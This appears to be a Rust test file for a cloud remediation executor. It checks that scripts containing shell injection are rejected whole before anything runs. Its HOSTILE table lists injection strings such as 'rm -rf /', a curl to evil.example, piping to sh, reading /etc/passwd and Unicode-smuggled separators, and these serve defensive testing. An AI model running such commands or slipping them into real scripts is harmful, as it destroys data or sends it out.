//! Hostile CLI scripts are rejected whole, and nothing reaches the (stand-in)
//! cloud CLI; safe scripts with metacharacters inside quotes arrive intact.

mod support;

use proptest::prelude::*;
use remediation::Error;
use remediation::executor::{
    Command, CommandExecutor, CommandPolicy, ContextMap, ProcessExecutor, parse_script,
    parse_script_steps,
};
use remediation::model::{Cloud, Target};
use remediation::planner::Step;
use support::StandIn;

const ACCOUNT: &str = "123456789012";

fn target() -> Target {
    Target::new(Cloud::Aws, Some(ACCOUNT.to_owned())).with_region("us-east-1")
}

fn executor(standin: &StandIn) -> ProcessExecutor {
    standin.executor(ContextMap::new().with_aws_profile(ACCOUNT, "default"))
}

/// What the engine does with a script: parse, check every step, then run them in order.
/// Parses `script` both ways — commands only ([`parse_script`]) and as the
/// planners do, with file writes understood ([`parse_script_steps`]) — then
/// checks and runs the steps the way the engine does.
async fn run_like_engine(script: &str, standin: &StandIn) -> remediation::Result<usize> {
    let policy = CommandPolicy::default();
    let as_steps = parse_script_steps(script, &policy);
    let steps: Vec<Step> = match parse_script(script, &policy) {
        Ok(commands) => commands.into_iter().map(Step::new).collect(),
        Err(e) => {
            // Whatever the strict parser refuses, the planners' parser
            // refuses too, for the same kind of reason.
            let Err(Error::UnsafeCommand { reason, .. }) = &as_steps else {
                panic!("{script:?}: parse_script_steps accepted it: {as_steps:?}");
            };
            if let Error::UnsafeCommand { reason: strict, .. } = &e {
                let kind = strict.split(" outside quotes").next().unwrap_or(strict);
                assert!(reason.contains(kind), "{script:?}: {reason} vs {strict}");
            }
            return Err(e);
        }
    };
    let executor = executor(standin);
    for step in &steps {
        executor.check(step, &target())?;
    }
    for step in &steps {
        executor.execute(step, &target()).await?;
    }
    Ok(steps.len())
}

/// (script, a fragment the rejection reason must contain)
const HOSTILE: &[(&str, &str)] = &[
    ("aws s3 ls; sh -c 'id'", "`sh` is not allowed"),
    (
        "aws s3 ls && curl http://evil.example",
        "`curl` is not allowed",
    ),
    ("aws s3 ls || rm -rf /", "`||`"),
    ("aws s3 ls | sh", "pipe `|`"),
    ("aws s3 ls |& tee /tmp/x", "pipe `|&`"),
    ("aws s3 ls $(id)", "command substitution `$(`"),
    ("aws s3 ls ${HOME}", "parameter expansion `${`"),
    ("aws s3 ls $HOME", "variable expansion `$`"),
    ("aws s3 ls \"$HOME\"", "`$` inside double quotes"),
    ("aws s3 ls $'\\x3b'", "ANSI-C quoting"),
    ("aws s3 ls `id`", "backticks"),
    ("aws s3 ls \"`id`\"", "backtick inside double quotes"),
    ("aws s3 ls > /tmp/x", "redirection `>`"),
    ("aws s3 ls >> /tmp/x", "redirection `>>`"),
    ("aws s3 cp - s3://b/k < /etc/passwd", "redirection `<`"),
    ("aws s3 ls 2>&1", "redirection `2>&`"),
    ("aws s3 ls 2> /tmp/err", "redirection `2>`"),
    ("aws s3 ls &> /tmp/x", "redirection `&>`"),
    ("aws s3 ls & rm -rf /", "background `&`"),
    ("aws s3 ls <<EOF\nrm -rf /\nEOF", "heredoc `<<`"),
    (
        "aws s3 ls <(curl evil.example)",
        "process substitution `<(`",
    ),
    ("AWS_PROFILE=prod aws s3 ls", "assignment `AWS_PROFILE`"),
    ("/bin/aws s3 ls", "program given as a path"),
    ("./aws s3 ls", "program given as a path"),
    ("aws s3 ls; \\/bin/sh", "program given as a path"),
    ("sh -c 'aws s3 ls'", "`sh` is not allowed"),
    ("bash", "`bash` is not allowed"),
    ("python3 -c 'import os'", "`python3` is not allowed"),
    ("aws s3 ls; e\\cho hi", "`echo` is not allowed"),
    ("AWS s3 ls", "`AWS` is not allowed"),
    ("aws s3 ls --profile prod", "--profile"),
    ("aws s3 ls --profile=prod", "--profile"),
    ("aws --prof prod s3 ls", "--profile"),
    (
        "aws --endpoint-url http://evil.example s3 ls",
        "--endpoint-url",
    ),
    (
        "aws s3 ls --endpoint-url=http://evil.example",
        "--endpoint-url",
    ),
    ("aws s3 ls --no-verify-ssl", "--no-verify-ssl"),
    (
        "aws configure set aws_access_key_id AKIA",
        "`aws configure`",
    ),
    (
        "gcloud --impersonate-service-account=x@p.iam compute instances list",
        "--impersonate-service-account",
    ),
    ("aws s3 ls\nrm -rf /", "`rm` is not allowed"),
    ("aws s3 ls\rrm -rf /", "carriage return"),
    ("aws s3 ls\u{FF1B} rm -rf /", "U+FF1B"),
    ("\u{FF41}ws s3 ls", "U+FF41"),
    ("aws s3 ls; '\u{FF41}ws' s3 ls", "is not allowed"),
    ("a\u{200B}ws s3 ls", "U+200B"),
    ("aws\u{00A0}s3 ls", "U+00A0"),
    ("aws s3 ls \u{202E}sl", "U+202E"),
    ("aws s3 cp 'a\u{202E}b' s3://x", "bidirectional"),
    ("aws s3 ls\0; rm -rf /", "NUL"),
    ("aws s3 ls '\u{1B}[2J'", "control character U+001B"),
    (
        "aws iam list-users and sh -c id",
        "bare `and` followed by `sh`",
    ),
    (
        "aws iam list-users and rm -rf /",
        "bare `and` followed by `rm`",
    ),
    ("(aws s3 ls)", "subshell or grouping `(`"),
    ("{ aws s3 ls; }", "brace group"),
    ("aws s3 ls 'unbalanced", "unterminated single quote"),
    ("aws s3 ls \"unbalanced", "unterminated double quote"),
    ("aws s3 ls # ; rm -rf /", "comment"),
    ("aws s3 ls &&", "ends with `&&`"),
    ("aws s3 ls\\", "trailing backslash"),
];

#[tokio::test]
async fn hostile_scripts_are_rejected_and_nothing_runs() {
    assert!(HOSTILE.len() >= 30);
    let standin = StandIn::new();
    for (script, fragment) in HOSTILE {
        match parse_script(script, &CommandPolicy::default()) {
            Err(Error::UnsafeCommand { reason, .. }) => assert!(
                reason.contains(fragment),
                "{script:?}: reason {reason:?} does not mention {fragment:?}"
            ),
            other => panic!("{script:?} was not rejected: {other:?}"),
        }
        let ran = run_like_engine(script, &standin).await;
        assert!(ran.is_err(), "{script:?} ran: {ran:?}");
        assert_eq!(standin.calls(), vec![], "{script:?} reached the CLI");
    }
}

#[tokio::test]
async fn the_harness_does_record_what_runs() {
    // Guards the test above: an empty log must mean "nothing ran", not "nothing records".
    let standin = StandIn::new();
    assert_eq!(
        run_like_engine("aws s3 ls; aws iam list-users", &standin)
            .await
            .unwrap(),
        2
    );
    let argvs: Vec<_> = standin.calls().into_iter().map(|c| c.argv).collect();
    assert_eq!(
        argvs,
        vec![vec!["aws", "s3", "ls"], vec!["aws", "iam", "list-users"]]
    );
}

#[tokio::test]
async fn policy_document_with_metacharacters_arrives_as_one_argument() {
    let document = r#"{"Version":"2012-10-17","Statement":[{"Effect":"Deny","Action":"s3:*","Resource":"*","Condition":{"StringEquals":{"aws:x":"a;b|c&&d>e$f`g`"}}}]}"#;
    let script = format!("aws iam create-policy --policy-name X --policy-document '{document}'");
    let commands = parse_script(&script, &CommandPolicy::default()).unwrap();
    let expected = vec![
        "aws",
        "iam",
        "create-policy",
        "--policy-name",
        "X",
        "--policy-document",
        document,
    ];
    assert_eq!(commands.len(), 1);
    assert_eq!(commands[0].argv(), expected.as_slice());
    assert_eq!(commands[0].args()[5], document);

    let standin = StandIn::new();
    run_like_engine(&script, &standin).await.unwrap();
    let calls = standin.calls();
    assert_eq!(calls.len(), 1);
    assert_eq!(calls[0].argv, expected);
}

#[test]
fn prisma_api_form_yields_two_commands() {
    let script = "aws iam create-policy --policy-name X --policy-document '{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"s3:GetObject\",\"Resource\":\"*\"}]}' and aws iam attach-user-policy --user-name U --policy-arn arn:aws:iam::123456789012:policy/X";
    let commands = parse_script(script, &CommandPolicy::default()).unwrap();
    assert_eq!(commands.len(), 2);
    assert_eq!(
        commands[0].args()[..4],
        ["iam", "create-policy", "--policy-name", "X"]
    );
    assert!(commands[0].args()[5].starts_with("{\"Version\""));
    assert_eq!(
        commands[1],
        Command::new(
            "aws",
            [
                "iam",
                "attach-user-policy",
                "--user-name",
                "U",
                "--policy-arn",
                "arn:aws:iam::123456789012:policy/X"
            ]
        )
    );
}

#[test]
fn separators_yield_the_right_commands() {
    let expected = vec![
        Command::new("aws", ["s3api", "put-public-access-block", "--bucket", "b"]),
        Command::new(
            "az",
            ["storage", "account", "update", "--https-only", "true"],
        ),
        Command::new(
            "gcloud",
            ["compute", "firewall-rules", "delete", "fw", "--quiet"],
        ),
    ];
    for script in [
        "aws s3api put-public-access-block --bucket b; az storage account update --https-only true; gcloud compute firewall-rules delete fw --quiet",
        "aws s3api put-public-access-block --bucket b && az storage account update --https-only true && gcloud compute firewall-rules delete fw --quiet",
        "aws s3api put-public-access-block --bucket b\naz storage account update --https-only true\n\ngcloud compute firewall-rules delete fw --quiet\n",
        "# remediation\naws s3api put-public-access-block \\\n  --bucket b &&\naz storage account update --https-only true and gcloud compute firewall-rules delete fw --quiet",
    ] {
        assert_eq!(
            parse_script(script, &CommandPolicy::default()).unwrap(),
            expected,
            "{script:?}"
        );
    }
}

// ---- property tests ----

/// Characters an argument may hold: safe ones, shell metacharacters (which
/// quoting must neutralize) and some non-ASCII text (allowed inside quotes).
const ARG_CHARS: &[char] = &[
    'a', 'b', 'z', 'A', 'Z', '0', '9', '-', '_', '.', '/', ':', '@', '+', ',', '=', '%', ' ', ';',
    '|', '&', '<', '>', '$', '`', '(', ')', '{', '}', '#', '*', '?', '[', ']', '~', '!', '^', '\'',
    '"', '\\', '\n', '\t', 'é', '；', '\u{200B}',
];

fn arg() -> impl Strategy<Value = String> {
    prop::collection::vec(prop::sample::select(ARG_CHARS), 0..12)
        .prop_map(|chars| chars.into_iter().collect::<String>())
        // A bare `and` is a statement separator by design; options are checked by the policy.
        .prop_filter("not a separator word or an option", |a| {
            a != "and" && !a.starts_with("--")
        })
}

fn command() -> impl Strategy<Value = Vec<String>> {
    (
        prop::sample::select(vec!["aws", "az", "gcloud"]),
        prop::collection::vec(arg(), 0..6),
    )
        .prop_map(|(program, args)| {
            let mut argv = vec![program.to_owned()];
            argv.extend(args);
            argv
        })
        .prop_filter("allowed by the policy", |argv| {
            let command = Command::from_argv(argv.clone()).expect("non-empty");
            CommandPolicy::default().check(&command).is_ok()
        })
}

fn quote(word: &str) -> String {
    shlex::try_quote(word).expect("no NUL").into_owned()
}

const FORBIDDEN: &[&str] = &[
    "|", "||", "&", ">", ">>", "<", "<<", "2>", "&>", "$(id)", "${X}", "$X", "$", "`id`", "(", ")",
    "{", "}", "\r", "\u{FF1B}", "\u{00A0}", "\0",
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn safe_scripts_round_trip(
        commands in prop::collection::vec(command(), 1..4),
        separators in prop::collection::vec(prop::sample::select(vec!["; ", " && ", "\n", " and ", " ;\n"]), 3),
    ) {
        let mut script = String::new();
        for (i, argv) in commands.iter().enumerate() {
            if i > 0 {
                script.push_str(separators[i - 1]);
            }
            script.push_str(&shlex::try_join(argv.iter().map(String::as_str)).expect("no NUL"));
        }
        let parsed = parse_script(&script, &CommandPolicy::default())
            .map_err(|e| TestCaseError::fail(format!("{script:?}: {e}")))?;
        let argvs: Vec<Vec<String>> = parsed.iter().map(|c| c.to_argv()).collect();
        prop_assert_eq!(argvs, commands, "script {:?}", script);
    }

    #[test]
    fn unquoted_metacharacters_are_rejected(
        argv in command(),
        position in any::<prop::sample::Index>(),
        glued in any::<bool>(),
        token in prop::sample::select(FORBIDDEN),
    ) {
        let mut words: Vec<String> = argv.iter().map(|w| quote(w)).collect();
        let at = 1 + position.index(words.len());
        if glued {
            // Right after the previous word, outside its quotes.
            words[at - 1].push_str(token);
        } else {
            words.insert(at, token.to_owned());
        }
        let script = words.join(" ");
        let result = parse_script(&script, &CommandPolicy::default());
        prop_assert!(
            matches!(result, Err(Error::UnsafeCommand { .. })),
            "{:?} was accepted: {:?}", script, result
        );
        // Understanding file writes does not let a command redirect anything.
        let result = parse_script_steps(&script, &CommandPolicy::default());
        prop_assert!(
            matches!(result, Err(Error::UnsafeCommand { .. })),
            "{:?} was accepted as steps: {:?}", script, result
        );
    }

    #[test]
    fn any_text_is_parsed_or_refused_without_panicking(script in "\\PC{0,80}|[a-z <>'\"$&;|\n]{0,80}") {
        for prefix in ["", "cat > p.json <<'EOF'\n", "echo "] {
            let text = format!("{prefix}{script}");
            let _ = parse_script_steps(&text, &CommandPolicy::default());
            let _ = parse_script(&text, &CommandPolicy::default());
        }
    }

    #[test]
    fn heredoc_and_echo_contents_arrive_intact(
        lines in prop::collection::vec(prop::collection::vec(prop::sample::select(ARG_CHARS), 0..20), 0..5),
        text in prop::collection::vec(prop::sample::select(ARG_CHARS), 1..20),
    ) {
        let lines: Vec<String> = lines
            .into_iter()
            .map(|l| l.into_iter().filter(|c| *c != '\n').collect())
            .filter(|l: &String| l != "EOF")
            .collect();
        let body: String = lines.iter().map(|l| format!("{l}\n")).collect();
        let text: String = text.into_iter().filter(|c| *c != '\\').collect();
        prop_assume!(!text.is_empty() && !text.starts_with('-'));
        let script = format!(
            "cat > deny.json <<'EOF'\n{body}EOF\necho {} > note.txt\n\
             gcloud iam policies create d --policy-file=deny.json && aws s3 cp note.txt s3://b/k",
            quote(&text)
        );
        let steps = parse_script_steps(&script, &CommandPolicy::default())
            .map_err(|e| TestCaseError::fail(format!("{script:?}: {e}")))?;
        prop_assert_eq!(steps.len(), 2);
        prop_assert_eq!(steps[0].files[0].contents(), body.as_str());
        let echoed = format!("{text}\n");
        prop_assert_eq!(steps[1].files[0].contents(), echoed.as_str());
    }

    #[test]
    fn programs_outside_the_allowlist_are_rejected(
        program in "[a-zA-Z0-9_./-]{1,12}",
        args in prop::collection::vec(arg(), 0..4),
        first in any::<bool>(),
    ) {
        prop_assume!(!["aws", "az", "gcloud"].contains(&program.as_str()));
        let mut argv = vec![program];
        argv.extend(args);
        let hostile = shlex::try_join(argv.iter().map(String::as_str)).expect("no NUL");
        let script = if first { hostile } else { format!("aws s3 ls; {hostile}") };
        let result = parse_script(&script, &CommandPolicy::default());
        prop_assert!(
            matches!(result, Err(Error::UnsafeCommand { .. })),
            "{:?} was accepted: {:?}", script, result
        );
    }
}

/// The worker's `--max-commands`: a script longer than the limit is rejected
/// whole (none of its commands runs), a shorter one runs.
#[tokio::test]
async fn the_worker_refuses_a_script_with_too_many_commands() {
    let bin = support::examples::example_binary("remediate").await;
    let standin = StandIn::new();
    let dir = tempfile::tempdir().unwrap();
    let alert = |id: &str, commands: usize| {
        let script: Vec<String> = (0..commands)
            .map(|i| format!("aws iam get-user --user-name {id}-{i}"))
            .collect();
        serde_json::json!({
            "alertId": id,
            "alertStatus": "open",
            "accountId": ACCOUNT,
            "cloudType": "aws",
            "resourceRegionId": "us-east-1",
            "alertRemediationCli": script.join(" && "),
        })
        .to_string()
    };
    let file = dir.path().join("alerts.jsonl");
    std::fs::write(
        &file,
        format!("{}\n{}\n", alert("LONG", 3), alert("SHORT", 2)),
    )
    .unwrap();
    let audit = dir.path().join("audit.jsonl");
    let out = tokio::process::Command::new(&bin)
        .args(["--source", &format!("file:{}", file.display())])
        .args(["--execute", "--quiet", "--max-commands", "2"])
        .args(["--account-profile", &format!("{ACCOUNT}=default")])
        .arg("--audit")
        .arg(&audit)
        .env("PATH", standin.path_env())
        .env(support::LOG_VAR, standin.log_path())
        .output()
        .await
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let records: Vec<serde_json::Value> = std::fs::read_to_string(&audit)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(records.len(), 2, "{records:?}");
    let long = records.iter().find(|r| r["alert_id"] == "LONG").unwrap();
    assert_eq!(long["decision"], "rejected", "{long}");
    let reason = long["reason"].as_str().unwrap();
    assert!(
        reason.starts_with("unsafe_command") && reason.contains("more than 2 commands"),
        "{reason}"
    );
    let short = records.iter().find(|r| r["alert_id"] == "SHORT").unwrap();
    assert_eq!(short["decision"], "executed", "{short}");
    let users: Vec<String> = standin
        .calls()
        .into_iter()
        .map(|c| c.argv.last().unwrap().clone())
        .collect();
    assert_eq!(users, ["SHORT-0", "SHORT-1"]);
}
